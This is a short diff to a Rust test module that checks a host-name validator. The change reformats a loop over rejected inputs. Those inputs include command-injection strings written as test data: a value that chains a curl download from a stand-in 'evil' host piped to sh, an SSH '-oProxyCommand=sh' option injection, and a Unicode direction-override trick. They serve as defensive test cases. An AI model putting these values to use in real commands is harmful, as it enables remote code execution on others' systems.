@@ -82,7 +82,9 @@ mod tests {
 		for ok in ["127.0.0.1", "gpu-1.example.net", "localhost", "::1", "2001:db8::7"] {
 			assert!(is_plain_host(ok), "{ok}");
 		}
-		for bad in ["x; curl evil|sh #", "-oProxyCommand=sh", "a b", "", "a..b", "-host", "host\u{202e}"] {
+		for bad in
+			["x; curl evil|sh #", "-oProxyCommand=sh", "a b", "", "a..b", "-host", "host\u{202e}"]
+		{
 			assert!(!is_plain_host(bad), "{bad}");
 		}
 	}
